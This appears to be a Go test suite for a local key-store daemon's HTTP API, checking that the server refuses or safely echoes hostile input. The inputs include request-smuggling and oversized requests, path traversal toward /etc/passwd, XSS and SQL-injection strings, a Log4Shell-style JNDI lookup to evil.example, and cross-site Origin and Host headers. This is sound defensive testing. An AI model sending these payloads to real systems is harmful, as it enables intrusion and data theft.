package httpapi

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/sentinel-peer/sentinel-peer/internal/api"
)

// raw sends bytes unchanged on a connection of its own, and returns what the server sends until it
// closes the connection, or is silent for a minute of virtual time.
func (x *fixture) raw(text string) string {
	x.t.Helper()
	c, err := x.pipes.dial(x.t.Context(), "", "")
	if err != nil {
		x.t.Fatal(err)
	}
	defer c.Close()
	go io.WriteString(c, text) // the server may not take all of it
	_ = c.SetReadDeadline(time.Now().Add(time.Minute))
	got, _ := io.ReadAll(c)
	return string(got)
}

// answers returns the statuses in what raw returned.
func answers(t *testing.T, text string) (statuses []int) {
	t.Helper()
	in := bufio.NewReader(strings.NewReader(text))
	for {
		res, err := http.ReadResponse(in, nil)
		if err != nil {
			return statuses
		}
		if _, err := io.Copy(io.Discard, res.Body); err != nil {
			t.Errorf("a broken answer: %v in %q", err, text)
			return statuses
		}
		statuses = append(statuses, res.StatusCode)
	}
}

const get = "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\n\r\n"

// A malformed or contradictory request is refused and counted, and the next one is served.
func TestHostileRequestsAreRefusedAndCounted(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		put := "PUT /v1/keys/victim HTTP/1.1\r\nHost: localhost\r\n"
		f := func(what, text, code string, statuses ...int) {
			t.Helper()
			before := x.server.Stats().Refused[code]
			if got := answers(t, x.raw(text)); fmt.Sprint(got) != fmt.Sprint(statuses) {
				t.Errorf("%s: %v, want %v", what, got, statuses)
			}
			synctest.Wait()
			if after := x.server.Stats().Refused[code]; code != "" && after == before {
				t.Errorf("%s: no %s was counted: %v", what, code, x.server.Stats().Refused)
			}
		}
		f("noise", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", "malformed", 400)
		f("no version", "GET /v1/keys\r\n\r\n", "malformed", 400)
		f("a version to come", strings.Replace(get, "1.1", "9.9", 1), "malformed", 505)
		f("no host", "GET /v1/keys HTTP/1.1\r\n\r\n", "malformed", 400)
		f("two hosts", "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n", "malformed", 400)
		f("a host in the target", "GET http://evil.example/v1/keys HTTP/1.1\r\nHost: localhost\r\n\r\n", "bad-host", 403)
		f("a folded header", "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\n evil: 1\r\n\r\n", "malformed", 400)
		f("a NUL in a header", "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\nX: a\x00b\r\n\r\n", "malformed", 400)
		f("a huge header", "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\nX: "+strings.Repeat("x", 2*maxHeader)+"\r\n\r\n", "malformed", 431)
		f("a flood of headers", "GET /v1/keys HTTP/1.1\r\nHost: localhost\r\n"+strings.Repeat("X: y\r\n", maxHeader/4)+"\r\n", "malformed", 431)
		f("an overlong path", "GET /v1/keys/"+strings.Repeat("k", 2*maxHeader)+" HTTP/1.1\r\nHost: localhost\r\n\r\n", "malformed", 431)
		f("two lengths", put+"Content-Length: 1\r\nContent-Length: 2\r\n\r\n1", "malformed", 400)
		f("a length below zero", put+"Content-Length: -1\r\n\r\n1", "malformed", 400)
		f("a length beyond all", put+"Content-Length: 99999999999999999999\r\n\r\n1", "malformed", 400)
		f("a coding that is none", put+"Transfer-Encoding: gzip\r\n\r\n1", "malformed", 501)
		f("length and chunks", put+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n2\r\n0\r\n\r\n"+get, "", 201, 200) // the chunks count (RFC 9112, 6.3)
		f("chunks that lie", put+"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n1", "incomplete-body", 408)
		f("chunks that are none", put+"Transfer-Encoding: chunked\r\n\r\nzz\r\n1", "incomplete-body", 408)
		f("more than it said", put+"Content-Length: 1\r\n\r\n12"+get, "method-not-allowed", 200, 405)
		f("a body without end", put+"Transfer-Encoding: chunked\r\n\r\n"+strings.Repeat("10000\r\n"+strings.Repeat("x", 0x10000)+"\r\n", maxBody>>16+2), "too-large", 413)
		f("a length over the limit", put+fmt.Sprintf("Content-Length: %d\r\n\r\n", maxBody+1)+strings.Repeat("x", maxBody+1), "too-large", 413)
		f("a slow header", "GET /v1/keys HTTP/1.1\r\nHost: loc", "malformed")
		f("a slow body", put+"Content-Length: 10\r\n\r\n12", "incomplete-body", 408)
		f("a trace", strings.Replace(get, "GET", "TRACE", 1), "method-not-allowed", 405)
		f("a preflight", strings.Replace(get, "GET", "OPTIONS", 1)[:len(get)+2]+"Origin: http://evil.example\r\nAccess-Control-Request-Method: PUT\r\n\r\n", "cross-site", 403)
		f("a tunnel", "CONNECT localhost:22 HTTP/1.1\r\nHost: localhost:22\r\n\r\n", "", 400)
		f("the server itself", "OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", "", 200)
		f("a method of its own", strings.Replace(get, "GET", "BREW", 1), "method-not-allowed", 405)
		f("another protocol", strings.Replace(get, "\r\n\r\n", "\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n", 1), "", 200)
		f("a hundred at once", strings.Repeat(get, 100), "", slicesOf(100, 200)...)
		x.reads("/v1/keys", x.must(200, "GET", "/v1/keys", "").body)
		if s := x.server.Stats(); s.Running != 0 || s.Streams != 0 {
			t.Errorf("something is still under way: %+v", s)
		}
	})
}

func slicesOf(n, status int) []int {
	list := make([]int, n)
	for i := range list {
		list[i] = status
	}
	return list
}

// No spelling of a path reaches another key than the one it names, or makes the server fail.
func TestNoPathReachesAnotherKey(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		x.must(201, "PUT", "/v1/keys/secret", `"s"`)
		for path, want := range map[string]int{
			"/v1/keys//secret": 400, "//v1/keys/secret": 400, "/v1//keys/secret": 400, "/v1/keys/secret/": 400, "/v1/keys/./secret": 400,
			"/v1/keys/a/../secret": 400, "/v1/keys/..": 400, "/v1/keys/.": 400, "/v1/keys/%2e%2e/keys/secret": 400, "/v1/keys/a%2f..%2fsecret": 400,
			"/v1/keys/%2Fsecret": 400, "/v1/keys/secret%2F": 400, "/v1/keys/%00": 400, "/v1/keys/secret%00": 400, "/v1/keys/secret%0a": 400, "/v1/keys/secret%7f": 400,
			"/v1/keys/%ff%fe": 400, "/v1/keys/" + strings.Repeat("k", 5000): 400, "/v1/keys/" + strings.Repeat("a%2F", 500) + "b": 404,
			"/v1/tasks/..%2F..%2Fsecret/state": 400, "/v1/tasks/a%2Fb/state": 404, "/v1/tasks/%00": 400, "/v1/queues/a%2Fb": 400, "/v1/workers/..%2Fx": 400,
			"/v1/keys%2Fsecret": 404, "/V1/keys/secret": 404, "/v1/keys/SECRET": 404, "/v1/keys;x/secret": 404, "/..%2f..%2fetc%2fpasswd": 404, "/v1/keys\\secret": 404,
		} {
			target := "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
			text := x.raw(target)
			got := answers(t, text)
			if len(got) != 1 || got[0] < 400 || got[0] >= 500 || got[0] != want || strings.Contains(text, `"s"`) {
				t.Errorf("%s: %v, want %d: %.300s", path, got, want, text)
			}
		}
		x.reads("/v1/keys/secret", `"s"`)
	})
}

// Keys and values are data: JSON, events and headers return them unchanged.
func TestInjectedTextStaysText(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		e := x.watch("")
		defer e.body.Close()
		e.expect(": watching")
		for _, text := range []string{"<script>alert(1)</script>", "a\r\nevent: put\r\ndata: {}\r\n\r\n", "a\nid: 1\n\n", "\u2028\u2029", "'; DROP TABLE keys; --",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%d", "\x1b[31m", "\u202egnp.exe", "=HYPERLINK(1)", strings.Repeat("a", 10_000)} {
			body, err := json.Marshal(text)
			if err != nil {
				t.Fatal(err)
			}
			got := x.do("PUT", "/v1/keys/k", string(body))
			if got.status >= 300 {
				t.Fatalf("%q: %v", text, got)
			}
			var told struct{ Value string }
			if err := json.Unmarshal([]byte(e.expect("put").data), &told); err != nil || told.Value != text {
				t.Errorf("%q: told as %q, %v", text, told.Value, err)
			}
			got = x.must(200, "GET", "/v1/keys/k", "")
			var read string
			if err := json.Unmarshal([]byte(got.body), &read); err != nil || read != text || got.header.Get("X-Content-Type-Options") != "nosniff" || got.header.Get("Content-Type") != "application/json" {
				t.Errorf("%q: read as %q, %v, %v", text, read, err, got.header)
			}
		}
		got := x.do("PUT", "/v1/keys/%3Cscript%3E%22", `"v"`)
		if got.status != 201 {
			t.Fatalf("%v", got)
		}
		e.expect("put", `"key":"\u003cscript\u003e\""`)
		if list := x.must(200, "GET", "/v1/keys", ""); !json.Valid([]byte(list.body)) || strings.Contains(list.body, "<script>") {
			t.Errorf("%s", list.body)
		}
	})
}

func TestParametersAreThereOnceAndWellFormed(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		for _, query := range []string{"limit=1&limit=2", "limit=%zz", "limit=1;values=true", "Limit=1", "limit=1&x", "=1", "limit=1e3", "limit=-1", "limit=99999999999999999999", "match=%5B", "match=" + strings.Repeat("{a,", 500)} {
			x.refused("bad-request", x.must(400, "GET", "/v1/keys?"+query, ""))
		}
		x.must(200, "GET", "/v1/workers?label=a&label=b", "")
		for _, body := range []string{``, `{`, `{"add":}`, `{"add":[1]`, `{"add":[1]}{}`, `{"add":[1],"x":1}`, `[]`, `null`, `{"add":"a"}`, strings.Repeat("[", 100_000), `{"add":[` + strings.Repeat(`{"a":`, 10_000) + `1` + strings.Repeat("}", 10_000) + `]}`, "\xff\xfe"} {
			if got := x.do("POST", "/v1/sets/s", body); got.status != 400 {
				t.Errorf("%.40q: %d %.200s", body, got.status, got.body)
			}
		}
	})
}

func TestHEADIsAGETWithoutABody(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		x.must(201, "PUT", "/v1/keys/k", `"v"`)
		got := x.must(200, "HEAD", "/v1/keys/k", "")
		if got.body != "" || got.header.Get("ETag") == "" {
			t.Errorf("%+v", got)
		}
		x.must(304, "HEAD", "/v1/keys/k", "", "If-None-Match", got.header.Get("ETag"))
		x.must(200, "HEAD", "/v1/watch", "")
		synctest.Wait()
		if s := x.server.Stats(); s.Streams != 0 {
			t.Errorf("%+v", s)
		}
	})
}

// A client that never reads is cut off. Meanwhile others are served, and nothing of it remains.
func TestWhoNeverReadsHoldsUpNobody(t *testing.T) {
	serving(t, func(cfg *Config) { cfg.Limits = Limits{Streams: 8} }, func(x *fixture) {
		x.must(201, "PUT", "/v1/keys/large", `"`+strings.Repeat("x", 1<<19)+`"`)
		var stuck []net.Conn
		for _, target := range []string{"/v1/keys/large", "/v1/watch?snapshot=true", "/v1/watch", "/v1/keys?values=true"} {
			c, err := x.pipes.dial(x.t.Context(), "", "")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n", target)
			stuck = append(stuck, c)
		}
		synctest.Wait()
		x.must(200, "PUT", "/v1/keys/large", `"small"`)
		x.reads("/v1/keys/large", `"small"`)
		time.Sleep(callTimeout + 10*time.Second)
		synctest.Wait()
		if s := x.server.Stats(); s.Running != 0 || s.Streams != 0 || s.Connections > 1 {
			t.Errorf("%+v", s)
		}
		for i, c := range stuck {
			if _, err := io.Copy(io.Discard, c); err != nil {
				t.Errorf("connection %d: %v", i, err)
			}
		}
	})
}

func TestErrorsTellNothingOfTheProgram(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		for _, op := range api.Operations {
			path := strings.NewReplacer("{key}", "%00", "{id}", "%00", "{agent}", "%00", "{queue}", "%00").Replace(op.Path)
			got := x.do(op.Method, path+"?nope=1", "{")
			for _, leak := range []string{".go:", "goroutine", "runtime", "0x", "github.com/sentinel-peer/sentinel-peer/internal"} {
				if bytes.Contains([]byte(got.body), []byte(leak)) {
					t.Errorf("%s tells %q: %s", op.Name, leak, got.body)
				}
			}
			if got.status < 400 || got.status >= 500 {
				t.Errorf("%s: %d %s", op.Name, got.status, got.body)
			}
		}
	})
}

func TestAWebPageCannotDriveALocalDaemon(t *testing.T) {
	serving(t, nil, func(x *fixture) {
		for _, host := range []string{"evil.example", "evil.example:7700", "127.0.0.1.evil.example", "10.0.0.1", ""} {
			if host != "" {
				x.refused("bad-host", x.must(403, "GET", "/v1/keys", "", "Host", host))
			}
		}
		for _, host := range []string{"localhost:7700", "[::1]:7700", "127.0.0.2"} {
			x.must(200, "GET", "/v1/keys", "", "Host", host)
		}
		for _, h := range [][]string{{"Origin", "http://evil.example"}, {"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}, {"Origin", "null"}} {
			x.must(403, "PUT", "/v1/keys/k", "1", h...)
			x.must(403, "DELETE", "/v1/keys/k", "", h...)
			x.must(403, "POST", "/v1/counters/k", `{"add":1}`, h...)
		}
		x.must(201, "PUT", "/v1/keys/k", "1", "Origin", base)
	})
}
